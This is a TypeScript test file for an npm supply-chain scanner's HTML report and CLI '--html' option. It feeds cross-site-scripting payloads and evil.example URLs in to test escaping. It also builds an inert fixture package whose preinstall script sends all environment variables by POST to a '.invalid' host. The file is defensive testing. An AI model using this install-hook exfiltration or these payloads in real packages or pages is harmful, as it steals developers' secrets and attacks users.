// The HTML report as a string: escaping of attacker-controlled text, verdict counts, caps on size,
// nothing loaded from anywhere, and the `--html` option of `scan` and `audit` (offline, local folder).
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CSP, HTML_LIMITS, renderHtmlReport, splitChain, type HtmlPackage, type HtmlReportInput } from '../src/report/html.js';
import { runCli } from './helpers/run-cli.js';
import { contextAround, EXCERPT_LIMITS, withContext } from '../src/report/excerpt.js';
import type { PackageFile } from '../src/types.js';

const HOSTILE = `</script><img src=x onerror=alert(1)>"'&<>`;
const HOSTILE_ESCAPED = '&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;&quot;&#39;&amp;&lt;&gt;';

type Finding = HtmlPackage['findings'][number];
const finding = (over: Partial<Finding> = {}): Finding => ({
  rule: 'env-access',
  severity: 'high',
  message: 'reads process.env',
  file: 'index.js',
  line: 3,
  column: 7,
  evidence: 'JSON.stringify(process.env)',
  reach: 'install',
  ...over,
});
const pkg = (over: Partial<HtmlPackage> = {}): HtmlPackage => ({
  name: 'some-pkg',
  version: '1.0.0',
  source: 'registry',
  integrity: null,
  score: 0,
  verdict: 'clean',
  reasons: [],
  findings: [],
  ...over,
});
const report = (packages: HtmlPackage[], extra: Partial<HtmlReportInput> = {}): HtmlReportInput => ({ tool: { name: 'tollgate', version: '0.1.0' }, packages, ...extra });

/** The page's real tags: escaped report text never holds a `<`, so every `<x ...>` is markup. */
function tagsOf(html: string): string[] {
  // Our own script and style bodies hold `<`/`>` of their own; there must be exactly one of each.
  expect(html.match(/<script\b/gi)).toHaveLength(1);
  expect(html.match(/<\/script/gi)).toHaveLength(1);
  expect(html.match(/<style\b/gi)).toHaveLength(1);
  const markup = html.replace(/<script>[\s\S]*?<\/script>/, '').replace(/<style>[\s\S]*?<\/style>/, '');
  return markup.match(/<[a-zA-Z][^>]*>/g) ?? [];
}

/** A tag's attributes: ours are always `name` or `name="value"`, values escaped (no `"` inside). */
function attrsOf(tag: string): Array<{ name: string; value: string }> {
  const rest = tag.replace(/^<[a-zA-Z][\w-]*/, '').replace(/\/?>$/, '');
  const out: Array<{ name: string; value: string }> = [];
  for (const m of rest.matchAll(/\s*([^\s="'>]+)(?:="([^"]*)")?/g)) out.push({ name: m[1]!, value: m[2] ?? '' });
  // Nothing left over: the tag parsed completely into attributes.
  expect(rest.replace(/\s*([^\s="'>]+)(?:="([^"]*)")?/g, '').trim(), tag).toBe('');
  return out;
}

function counts(html: string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const m of html.matchAll(/<li class="count v-\w+" data-verdict="(\w+)" data-count="(\d+)">/g)) out[m[1]!] = Number(m[2]);
  const total = /data-total="(\d+)"/.exec(html);
  if (total) out.total = Number(total[1]);
  return out;
}

describe('escaping', () => {
  const hostile = report(
    [
      pkg({
        name: HOSTILE,
        version: `1.0.0"><svg onload=alert(2)>`,
        source: HOSTILE,
        verdict: 'malicious',
        score: 99,
        reasons: [`at install: ${HOSTILE} flows to the network: ${HOSTILE} (${HOSTILE}:1) → b (x.js:2)`, HOSTILE],
        error: HOSTILE,
        findings: [
          finding({ rule: HOSTILE, severity: 'constructor', message: HOSTILE, file: HOSTILE, evidence: `${HOSTILE}\n<iframe src="javascript:alert(3)"></iframe>`, reach: HOSTILE }),
          finding({ severity: '__proto__', message: `x → ${HOSTILE}` }),
        ],
        paths: [`app > ${HOSTILE}`],
        aliases: [HOSTILE],
        dev: false,
      }),
      pkg({ name: HOSTILE, verdict: 'clean' }),
    ],
    {
      context: { command: HOSTILE, subtitle: HOSTILE, notes: [HOSTILE] },
      audit: { lockfile: HOSTILE, format: HOSTILE, lockfileVersion: HOSTILE, notes: [HOSTILE] },
    },
  );
  const html = renderHtmlReport(hostile, { title: HOSTILE });

  test('report text never becomes markup: no tags, handlers or scripts of its own', () => {
    const tags = tagsOf(html);
    const names = new Set(tags.map((t) => /^<([a-zA-Z][\w-]*)/.exec(t)![1]!.toLowerCase()));
    for (const bad of ['img', 'iframe', 'object', 'embed', 'a', 'link', 'base', 'form']) expect(names.has(bad), bad).toBe(false);
    expect(tags.filter((t) => /^<svg\b/.test(t))).toHaveLength(1); // the donut
    for (const t of tags) for (const a of attrsOf(t)) expect(a.name, t).not.toMatch(/^on/i);
  });

  test('every hostile field is shown as text', () => {
    const shown = html.split(HOSTILE_ESCAPED).length - 1;
    // title x2, name x2 (article, clean list) + 2 data-name, source, reasons, error, rule, message,
    // file, evidence, reach, path, alias, context x3, lockfile, format, version, note...
    expect(shown).toBeGreaterThanOrEqual(20);
    expect(html).toContain('1.0.0&quot;&gt;&lt;svg onload=alert(2)&gt;');
    expect(html).toContain('&lt;iframe src=&quot;javascript:alert(3)&quot;&gt;&lt;/iframe&gt;');
  });

  test('an unknown severity ("constructor", "__proto__") is shown as text with the neutral style', () => {
    expect(html).toContain('<span class="sev sev-unknown">constructor</span>');
    expect(html).toContain('<span class="sev sev-unknown">__proto__</span>');
    expect(html).not.toMatch(/class="[^"]*sev-(constructor|__proto__)/);
  });

  test('bidi and zero-width characters are made visible, never passed through', () => {
    const out = renderHtmlReport(report([pkg({ name: 'left\u202Egnp.js', verdict: 'suspicious', findings: [finding({ file: 'a\u200Bb.js', evidence: 'x\u2066y\tz\nw' })] })]));
    expect(out).toContain('left⟨U+202E⟩gnp.js');
    expect(out).toContain('a⟨U+200B⟩b.js');
    expect(out).toContain('x⟨U+2066⟩y\tz\nw'); // tabs and newlines stay in the code excerpt
    expect(out).not.toMatch(/[\u202E\u200B\u2066]/);
  });
});

describe('summary', () => {
  test('counts per verdict, with a total; a verdict the page does not know counts as error, never clean', () => {
    const verdicts = ['malicious', 'suspicious', 'suspicious', 'clean', 'clean', 'clean', 'clean', 'clean', 'error', 'bogus'];
    const html = renderHtmlReport(report(verdicts.map((v, i) => pkg({ name: `p${i}`, verdict: v as HtmlPackage['verdict'] }))));
    expect(counts(html)).toEqual({ malicious: 1, suspicious: 2, error: 2, clean: 5, total: 10 });
    // The donut has one segment per non-zero verdict and says the counts to screen readers.
    expect(html.match(/<circle class="seg v-\w+"/g)).toHaveLength(4);
    expect(html).toContain('aria-label="1 malicious, 2 suspicious, 2 error, 5 clean"');
  });

  test('an empty report says so, with zero counts', () => {
    const html = renderHtmlReport(report([]));
    expect(counts(html)).toEqual({ malicious: 0, suspicious: 0, error: 0, clean: 0, total: 0 });
    expect(html).toContain('The report holds no packages.');
  });

  test('an all-clean report says every package scanned clean', () => {
    const html = renderHtmlReport(report([pkg(), pkg({ name: 'b' })]));
    expect(html).toContain('Every package scanned clean.');
    expect(html).not.toContain('<article');
  });
});

describe('layout', () => {
  const html = renderHtmlReport(
    report(
      [
        pkg({
          name: 'evil',
          verdict: 'malicious',
          score: 96,
          reasons: ['at install: process.env flows to the network: process.env (s.js:2) → data = … (s.js:2) → https.request().write(…) (s.js:5)', 'plain reason'],
          findings: [finding({ severity: 'low', rule: 'install-scripts' }), finding({ severity: 'critical', rule: 'exfiltration-flow', message: 'process.env flows to the network: a (s.js:2) → b (s.js:5)' })],
          paths: ['app > tidy-lib > evil'],
          dev: false,
          cached: true,
        }),
        ...Array.from({ length: 30 }, (_, i) => pkg({ name: `clean-${i}`, dev: i % 2 === 0 })),
      ],
      { context: { command: 'check', subtitle: 'check against origin/main: 3 new or changed packages scanned', notes: ['lockfile changed in 2 places'] } },
    ),
    { generatedAt: new Date('2026-01-02T03:04:05.678Z') },
  );

  test('chains render as numbered steps with their locations apart', () => {
    expect(html).toContain('<span class="chain-head">at install: process.env flows to the network</span><ol class="chain"><li>process.env <span class="loc">s.js:2</span></li><li>data = … <span class="loc">s.js:2</span></li><li>https.request().write(…) <span class="loc">s.js:5</span></li></ol>');
    expect(html).toContain('<li>plain reason</li>');
    expect(splitChain('x: y: a (f.js:1) → b: c (f.js:2)')).toEqual({ head: 'x: y', steps: ['a (f.js:1)', 'b: c (f.js:2)'] });
    expect(splitChain('no arrows: here')).toBeUndefined();
  });

  test('findings: most severe first, each a <details> with severity, rule, message, location and excerpt', () => {
    const first = html.indexOf('exfiltration-flow');
    expect(first).toBeGreaterThan(0);
    expect(first).toBeLessThan(html.indexOf('install-scripts'));
    expect(html).toContain('<details class="finding"><summary><span class="sev sev-critical">critical</span><span class="rule">exfiltration-flow</span><span class="msg">process.env flows to the network</span><span class="loc">index.js:3:7</span></summary>');
    expect(html).toContain('<pre class="evidence"><code>JSON.stringify(process.env)</code></pre>');
    expect(html).toContain('runs at install');
  });

  test('audit placement, tags, context and time are shown', () => {
    expect(html).toContain('<h4>Pulled in by</h4><ul class="paths"><li>app &gt; tidy-lib &gt; evil</li></ul>');
    expect(html).toMatch(/<span class="tag">prod<\/span><span class="tag">cached<\/span>/);
    expect(html).toContain('check against origin/main: 3 new or changed packages scanned');
    expect(html).toContain('<li>lockfile changed in 2 places</li>');
    expect(html).toContain('<time datetime="2026-01-02T03:04:05.678Z">2026-01-02 03:04:05 UTC</time>');
  });

  test('clean packages are a collapsed list, not full entries', () => {
    expect(html).toContain('<details class="compact clean"><summary>30 clean packages</summary>');
    expect(html.match(/<article /g)).toHaveLength(1);
    expect(html).toContain('<li data-pkg data-verdict="clean" data-name="clean-0">clean-0<span class="ver">@1.0.0</span> <span class="muted">(dev)</span></li>');
  });

  test('works without JavaScript: filters start hidden, findings expand with <details>, no inline handlers', () => {
    expect(html).toContain('<div class="filters" id="filters" hidden>');
    for (const t of tagsOf(html)) for (const a of attrsOf(t)) expect(a.name, t).not.toMatch(/^on/i);
  });
});

describe('count cards, excerpts with context, dependency paths', () => {
  test('count digits never wrap: the number is one unbreakable run, and the grid can shrink below its minimum on a phone', () => {
    const html = renderHtmlReport(report([...Array.from({ length: 17 }, (_, i) => pkg({ name: `m${i}`, verdict: 'malicious' })), ...Array.from({ length: 616 }, (_, i) => pkg({ name: `c${i}` }))]));
    const css = /<style>([\s\S]*?)<\/style>/.exec(html)![1]!;
    const rule = /\.count \.n\{([^}]*)\}/.exec(css)![1]!;
    // body sets overflow-wrap:anywhere (long file names); the count must opt out of it.
    expect(css).toMatch(/body\{[^}]*overflow-wrap:anywhere/);
    expect(rule).toContain('white-space:nowrap');
    expect(rule).toContain('overflow-wrap:normal');
    expect(rule).toContain('flex:none');
    expect(css).toContain('minmax(min(9.5rem,100%),1fr)');
    expect(html).toContain('<span class="n">17</span>');
    expect(html).toContain('<span class="n">616</span>');
  });

  test('an excerpt shows three lines either side, numbered, the match marked; report text stays text', () => {
    const lines = ['a', 'b', 'c', `const body = JSON.stringify(process.env); // ${HOSTILE}`, 'e', 'f', 'g'];
    const f = finding({ line: 4, column: 13, evidence: 'JSON.stringify(process.env)', context: { start: 1, lines } } as Partial<Finding>);
    const html = renderHtmlReport(report([pkg({ verdict: 'malicious', score: 90, findings: [f] })]));
    const pre = /<pre class="evidence excerpt"><code>([\s\S]*?)<\/code><\/pre>/.exec(html)![1]!;
    expect(pre.split('\n')).toHaveLength(7);
    expect(pre).toContain('<span class="cl hit"><span class="ln">4</span> const body = <mark>JSON.stringify(process.env)</mark>; // ' + HOSTILE_ESCAPED + '</span>');
    expect(pre).toContain('<span class="cl"><span class="ln">1</span> a</span>');
    expect(pre.match(/<mark>/g)).toHaveLength(1);
    // Without the evidence on the line, the column on is marked.
    const byColumn = renderHtmlReport(report([pkg({ verdict: 'malicious', findings: [finding({ line: 2, column: 2, evidence: 'elsewhere', context: { start: 1, lines: ['x', 'abcdef', 'y'] } } as Partial<Finding>)] })]));
    expect(byColumn).toContain('<span class="ln">2</span> ab<mark>cdef</mark></span>');
    // A report without context (or with a malformed one) shows the evidence as before.
    const plain = renderHtmlReport(report([pkg({ verdict: 'malicious', findings: [finding({ context: { start: 'x', lines: 3 } } as unknown as Partial<Finding>)] })]));
    expect(plain).toContain('<pre class="evidence"><code>JSON.stringify(process.env)</code></pre>');
  });

  test('context comes from the package file: bounded lines, no binaries, no partial files, at most N findings', () => {
    const text = Array.from({ length: 20 }, (_, i) => `line ${i + 1}`).join('\n');
    expect(contextAround(text, 1)).toEqual({ start: 1, lines: ['line 1', 'line 2', 'line 3', 'line 4'] });
    expect(contextAround(text, 10)).toEqual({ start: 7, lines: ['line 7', 'line 8', 'line 9', 'line 10', 'line 11', 'line 12', 'line 13'] });
    expect(contextAround(text, 21)).toBeUndefined();
    expect(contextAround('x'.repeat(10_000), 1)!.lines[0]).toHaveLength(EXCERPT_LIMITS.lineChars + 1);
    const file = (data: Buffer, over: Partial<PackageFile> = {}): PackageFile => ({ path: 'f', size: data.length, data, ...over });
    const files = new Map<string, PackageFile>([
      ['a.js', file(Buffer.from(text))],
      ['bin.node', file(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 10, 10]))],
      ['big.js', file(Buffer.from(text), { partial: true })],
    ]);
    const out = withContext([{ rule: 'r', severity: 'high', message: 'm', file: 'a.js', line: 5 }, { rule: 'r', severity: 'high', message: 'm', file: 'bin.node', line: 2 }, { rule: 'r', severity: 'high', message: 'm', file: 'big.js', line: 2 }, { rule: 'r', severity: 'high', message: 'm', file: 'a.js' }], files);
    expect(out.map((f) => f.context?.start ?? null)).toEqual([2, null, null, null]);
    const many = withContext(Array.from({ length: EXCERPT_LIMITS.findings + 5 }, () => ({ rule: 'r', severity: 'high' as const, message: 'm', file: 'a.js', line: 3 })), files);
    expect(many.filter((f) => f.context).length).toBe(EXCERPT_LIMITS.findings);
  });

  test('audits: one tree of who pulls in each flagged package, shared parents once', () => {
    const html = renderHtmlReport(report([
      pkg({ name: 'evil', verdict: 'malicious', paths: ['app > tidy-lib > evil', 'app > other > evil'] }),
      pkg({ name: 'odd', verdict: 'suspicious', paths: ['app > tidy-lib > odd'] }),
      pkg({ name: 'fine', paths: ['app > fine'] }),
    ]));
    const tree = /<details class="compact deps" open><summary>Who pulls them in<\/summary>([\s\S]*?)<\/details>/.exec(html)![1]!;
    expect(tree).toBe(
      '<ul><li>app<ul><li>tidy-lib<ul><li><span class="flag v-malicious"><span class="badge">malicious</span> evil</span></li><li><span class="flag v-suspicious"><span class="badge">suspicious</span> odd</span></li></ul></li>' +
        '<li>other<ul><li><span class="flag v-malicious"><span class="badge">malicious</span> evil</span></li></ul></li></ul></li></ul>',
    );
    expect(tree).not.toContain('fine');
    // Scans (no paths) have no tree.
    expect(renderHtmlReport(report([pkg({ name: 'evil', verdict: 'malicious' })]))).not.toContain('Who pulls them in');
  });
});

describe('nothing is loaded from anywhere', () => {
  const html = renderHtmlReport(
    report([
      pkg({
        name: 'http://evil.example/pkg',
        verdict: 'suspicious',
        reasons: ['sends data to https://evil.example/c'],
        findings: [finding({ message: 'fetch("https://evil.example/c")', evidence: '<a href="https://evil.example">x</a><img src="//evil.example/p.png">' })],
      }),
    ]),
  );

  test('a strict CSP is the first thing in <head>, before any style or script', () => {
    const head = html.slice(html.indexOf('<head>'), html.indexOf('</head>'));
    expect(CSP).toContain("default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; img-src data:");
    expect(head).toContain(`<meta http-equiv="Content-Security-Policy" content="${CSP}">`);
    expect(head.indexOf('Content-Security-Policy')).toBeLessThan(head.indexOf('<style'));
    expect(head.indexOf('Content-Security-Policy')).toBe(head.indexOf('<meta charset="utf-8">') + '<meta charset="utf-8">\n<meta http-equiv="'.length);
    expect(head).toContain('<meta name="viewport" content="width=device-width, initial-scale=1">');
  });

  test('no element has an attribute that loads or links anything, and the CSS has no url() or @import', () => {
    const seen = new Set<string>();
    for (const t of tagsOf(html)) {
      for (const a of attrsOf(t)) {
        seen.add(a.name);
        expect(a.name, t).not.toMatch(/^(?:src|href|srcset|action|formaction|poster|data|background|ping|manifest|xlink:href|xmlns|style)$/i);
        // A URL may sit only in data-name, which the filter script reads as text.
        if (/\/\//.test(a.value)) expect(a.name, t).toBe('data-name');
      }
    }
    expect(seen.has('data-name')).toBe(true); // the attribute walk did see the hostile name
    const css = /<style>([\s\S]*?)<\/style>/.exec(html)![1]!;
    expect(css).not.toMatch(/url\(|@import/i);
    // ...while the URLs in the report are still there to read.
    expect(html).toContain('fetch(&quot;https://evil.example/c&quot;)');
    expect(html).toContain('&lt;a href=&quot;https://evil.example&quot;&gt;');
  });
});

describe('size caps', () => {
  test('a code excerpt is cut at the cap with a note of what was left out', () => {
    const html = renderHtmlReport(report([pkg({ verdict: 'suspicious', findings: [finding({ evidence: 'A'.repeat(1_000_000) })] })]));
    expect(html).toContain('A'.repeat(HTML_LIMITS.evidenceChars));
    expect(html).not.toContain('A'.repeat(HTML_LIMITS.evidenceChars + 1));
    expect(html).toContain(`(${1_000_000 - HTML_LIMITS.evidenceChars} more characters)`);
  });

  test('a cut never splits a surrogate pair', () => {
    const html = renderHtmlReport(report([pkg({ verdict: 'suspicious', findings: [finding({ evidence: 'a' + '😀'.repeat(5000) })] })]));
    expect(html).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
  });

  test('findings per package are capped, most severe kept, with a count of the rest', () => {
    const findings = [...Array.from({ length: 999 }, () => finding({ severity: 'info' })), finding({ severity: 'critical', rule: 'the-worst' })];
    const html = renderHtmlReport(report([pkg({ verdict: 'malicious', findings })]));
    expect(html.match(/<details class="finding">/g)).toHaveLength(HTML_LIMITS.findingsPerPackage);
    expect(html).toContain('<span class="rule">the-worst</span>');
    expect(html).toContain(`${1000 - HTML_LIMITS.findingsPerPackage} more findings not shown here`);
    expect(html).toContain('<h4>1000 findings</h4>');
  });

  test('a hostile report (100,000 packages, 1,000 findings each, megabyte strings) makes a bounded page, quickly', () => {
    // Strings that grow the most when shown: quotes escape to 6 characters, bidi marks to 10.
    const quotes = '"'.repeat(1_000_000);
    const bidi = '\u202E'.repeat(1_000_000);
    const findings = Array.from({ length: 1000 }, (_, i) => finding({ message: i % 2 ? quotes : bidi, evidence: i % 2 ? bidi : quotes, file: quotes, rule: bidi }));
    const packages = Array.from({ length: 100_000 }, (_, i) =>
      pkg({ name: i % 2 ? quotes : bidi, version: quotes, source: bidi, verdict: i % 3 ? 'malicious' : 'clean', reasons: Array(50).fill(i % 2 ? quotes : bidi), paths: Array(50).fill(quotes), aliases: Array(50).fill(bidi), error: quotes, findings }),
    );
    const t0 = performance.now();
    const html = renderHtmlReport(report(packages, { context: { command: quotes, notes: Array(1000).fill(bidi) } }));
    const ms = performance.now() - t0;
    console.log(`hostile report: ${(html.length / 1e6).toFixed(1)} M characters in ${ms.toFixed(0)} ms`);
    expect(html.length).toBeLessThan(20_000_000);
    expect(ms).toBeLessThan(5_000);
    expect(counts(html)).toEqual({ malicious: 66_666, suspicious: 0, error: 0, clean: 33_334, total: 100_000 });
    expect(html).toContain('not shown in full (page size limit; the --json report has them)');
  });
});

describe('--html on the command line', () => {
  let tmp: string;
  let evil: string;
  const saved = process.env.TOLLGATE_CACHE_DIR;
  beforeAll(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tollgate-html-'));
    process.env.TOLLGATE_CACHE_DIR = path.join(tmp, 'cache');
    // Inert fixture: read as text, never run; the host is under .invalid.
    evil = path.join(tmp, 'evil');
    fs.mkdirSync(evil);
    fs.writeFileSync(path.join(evil, 'package.json'), JSON.stringify({ name: 'evil-pkg', version: '1.0.0', main: 'index.js', scripts: { preinstall: 'node setup.js' } }));
    fs.writeFileSync(path.join(evil, 'index.js'), 'module.exports = 1;\n');
    fs.writeFileSync(path.join(evil, 'setup.js'), "const https = require('https');\nconst data = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'collector.invalid', path: '/c', method: 'POST' });\nreq.on('error', () => {});\nreq.write(data);\nreq.end();\n");
  });
  afterAll(() => {
    if (saved === undefined) delete process.env.TOLLGATE_CACHE_DIR;
    else process.env.TOLLGATE_CACHE_DIR = saved;
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  test('scan --html writes the page next to the usual output and says where', async () => {
    const out = path.join(tmp, 'scan.html');
    const r = await runCli(['scan', evil, '--html', out, '--no-registry-signals', '--json']);
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).packages[0].verdict).toBe('malicious');
    expect(r.stderr).toContain(`tollgate: HTML report written to ${out}`);
    const html = fs.readFileSync(out, 'utf8');
    expect(counts(html)).toEqual({ malicious: 1, suspicious: 0, error: 0, clean: 0, total: 1 });
    expect(html).toContain('<code>tollgate scan ');
    // The scan read the lines around each finding from the package: an excerpt with the match marked.
    expect(html).toMatch(/<pre class="evidence excerpt"><code>[^]*?<span class="cl hit"><span class="ln">\s*\d+<\/span> [^<]*<mark>req\.write\(data\)<\/mark>/);
    expect(JSON.parse(r.stdout).packages[0].findings.some((f: { context?: { lines: string[] } }) => f.context?.lines.some((l) => l.includes('req.write(data)')))).toBe(true);
  });

  test('--quiet keeps stderr free of the written-to line', async () => {
    const out = path.join(tmp, 'quiet.html');
    const r = await runCli(['scan', evil, '--html', out, '--no-registry-signals', '--quiet']);
    expect(r.code).toBe(1);
    expect(fs.existsSync(out)).toBe(true);
    expect(r.stderr).not.toContain('HTML report written');
  });

  test('scan --html into a missing folder fails (exit 2) before scanning, naming the folder', async () => {
    const out = path.join(tmp, 'no-such-folder', 'r.html');
    const r = await runCli(['scan', evil, '--html', out, '--no-registry-signals']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`cannot write the HTML report to ${out}: folder ${path.dirname(out)} does not exist`);
    expect(r.stdout).toBe('');
  });

  test('audit --html into a folder path or a missing folder fails (exit 2) before reading the lockfile', async () => {
    const asDir = await runCli(['audit', tmp, '--html', tmp]);
    expect(asDir.code).toBe(2);
    expect(asDir.stderr).toContain(`cannot write the HTML report to ${tmp}: it is a folder`);
    const missing = path.join(tmp, 'nope', 'r.html');
    const r = await runCli(['audit', tmp, '--html', missing]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`folder ${path.dirname(missing)} does not exist`);
    expect(r.stderr).not.toMatch(/lockfile/i); // the html check came first
  });

  test('audit --list --html is a usage error', async () => {
    const r = await runCli(['audit', tmp, '--list', '--html', path.join(tmp, 'x.html')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--html does not apply to --list');
  });
});
